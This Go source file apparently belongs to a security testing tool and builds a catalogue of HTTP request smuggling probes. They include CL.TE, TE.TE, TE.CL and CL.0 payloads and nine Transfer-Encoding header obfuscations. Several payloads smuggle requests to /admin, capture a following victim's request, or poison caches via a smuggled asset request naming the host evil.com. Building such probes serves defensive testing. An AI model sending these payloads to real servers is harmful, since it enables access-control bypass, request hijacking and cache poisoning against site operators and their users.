package smuggling

import (
	"context"
	"fmt"
	"strings"

	"github.com/waftester/desyncsim/pkg/placeholder"
)

// Payload represents a smuggling test payload
type Payload struct {
	Name        string   `json:"name"`
	Type        VulnType `json:"type"`
	Doc         string   `json:"doc"`
	Description string   `json:"description,omitempty"`
}

// Resolve substitutes the payload's length tags.
func (p Payload) Resolve(ctx context.Context, r *placeholder.Resolver) ([]byte, error) {
	out, err := r.Resolve(ctx, []byte(p.Doc))
	if err != nil {
		return nil, fmt.Errorf("payload %q: %w", p.Name, err)
	}
	return out, nil
}

// Obfuscation is a Transfer-Encoding header variant that some parsers
// honour and others ignore.
type Obfuscation struct {
	Name   string `json:"name"`
	Header string `json:"header"`
}

var obfuscations = []Obfuscation{
	{"Space before colon", "Transfer-Encoding : chunked"},
	{"Tab after colon", "Transfer-Encoding:\tchunked"},
	{"Case variation", "Transfer-ENCODING: chunked"},
	{"Double header", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity"},
	{"Value list", "Transfer-Encoding: identity, chunked"},
	{"Null byte", "Transfer-Encoding: chunked\x00"},
	{"Vertical tab", "Transfer-Encoding:\x0bchunked"},
	{"Line folding", "Transfer-Encoding:\r\n chunked"},
	{"X prefix", "X-Transfer-Encoding: chunked"},
}

// Obfuscations returns the TE.TE header variants.
func Obfuscations() []Obfuscation {
	return append([]Obfuscation(nil), obfuscations...)
}

// smuggled is the prefix the TE.CL probe plants for the next request.
const smuggled = "GPOST / HTTP/1.1\r\n" +
	"Content-Type: application/x-www-form-urlencoded\r\n" +
	"Content-Length: 15\r\n" +
	"\r\n" +
	"x=1"

// Payloads returns the probe catalogue for host.
func Payloads(host string) []Payload {
	b := placeholder.NewBuilder
	payloads := []Payload{
		{
			Name: "CL.TE Basic",
			Type: VulnCLTE,
			Doc: b().Text("POST / HTTP/1.1\r\n"+
				"Host: "+host+"\r\n"+
				"Content-Type: application/x-www-form-urlencoded\r\n"+
				"Content-Length: ").Int(1).Text("\r\n"+
				"Transfer-Encoding: chunked\r\n"+
				"\r\n").
				Block(1, func(b *placeholder.Builder) { b.Text("0\r\n\r\nSMUGGLED") }).
				Build(),
			Description: "Content-Length covers a complete chunked body plus a smuggled prefix",
		},
		{
			Name: "TE.CL Basic",
			Type: VulnTECL,
			Doc: b().Text("POST / HTTP/1.1\r\n"+
				"Host: "+host+"\r\n"+
				"Content-Length: 4\r\n"+
				"Transfer-Encoding: chunked\r\n"+
				"\r\n").
				Hex(1).Text("\r\n").
				Block(1, func(b *placeholder.Builder) { b.Text(smuggled) }).
				Text("\r\n0\r\n\r\n").
				Build(),
			Description: "Content-Length covers only the chunk-size line; the chunk data is a second request",
		},
		{
			Name: "CL.TE Request Split",
			Type: VulnCLTE,
			Doc: b().Text("POST / HTTP/1.1\r\n"+
				"Host: "+host+"\r\n"+
				"Content-Type: application/x-www-form-urlencoded\r\n"+
				"Content-Length: ").Int(1).Text("\r\n"+
				"Transfer-Encoding: chunked\r\n"+
				"\r\n").
				Block(1, func(b *placeholder.Builder) {
					b.Text("0\r\n\r\nGET /admin HTTP/1.1\r\nHost: " + host + "\r\nFoo: x")
				}).
				Build(),
			Description: "Smuggles a GET /admin whose last header swallows the next victim request line",
		},
		{
			Name: "Cache Poisoning via Smuggling",
			Type: VulnCLTE,
			Doc: b().Text("POST / HTTP/1.1\r\n"+
				"Host: "+host+"\r\n"+
				"Content-Length: ").Int(1).Text("\r\n"+
				"Transfer-Encoding: chunked\r\n"+
				"\r\n").
				Block(1, func(b *placeholder.Builder) {
					b.Text("0\r\n\r\nGET /static/main.js HTTP/1.1\r\nHost: evil.com\r\nContent-Length: 10\r\n\r\nx=1")
				}).
				Build(),
			Description: "Smuggled request for a cacheable asset with an attacker host",
		},
		{
			Name: "CL.0 Basic",
			Type: VulnCL0,
			Doc: b().Text("POST / HTTP/1.1\r\n"+
				"Host: "+host+"\r\n"+
				"Content-Length: ").Int(1).Text("\r\n"+
				"\r\n").
				Block(1, func(b *placeholder.Builder) {
					b.Text("GET /admin HTTP/1.1\r\nHost: " + host + "\r\n\r\n")
				}).
				Build(),
			Description: "Body is a complete request for a back-end that ignores Content-Length",
		},
	}

	for _, obf := range obfuscations {
		payloads = append(payloads, Payload{
			Name: "TE.TE " + obf.Name,
			Type: VulnTETE,
			Doc: b().Text("POST / HTTP/1.1\r\n"+
				"Host: "+host+"\r\n"+
				"Content-Type: application/x-www-form-urlencoded\r\n"+
				"Content-Length: ").Int(1).Text("\r\n"+
				obf.Header+"\r\n"+
				"\r\n").
				Block(1, func(b *placeholder.Builder) { b.Text("1\r\nZ") }).
				Text("\r\nQ").
				Build(),
			Description: fmt.Sprintf("Transfer-Encoding obfuscation: %s", obf.Name),
		})
	}
	return payloads
}

// Find returns the payload whose name matches case-insensitively.
func Find(payloads []Payload, name string) (Payload, bool) {
	for _, p := range payloads {
		if strings.EqualFold(p.Name, name) {
			return p, true
		}
	}
	return Payload{}, false
}
